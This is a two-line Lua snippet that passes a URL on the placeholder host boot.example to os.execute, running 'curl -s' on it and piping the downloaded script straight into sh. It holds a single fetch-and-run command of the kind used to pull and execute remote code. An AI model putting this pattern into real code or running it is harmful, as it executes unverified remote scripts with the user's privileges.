local url = "https://boot.example/s.sh"
os.execute(string.format("curl -s %s | sh", url))
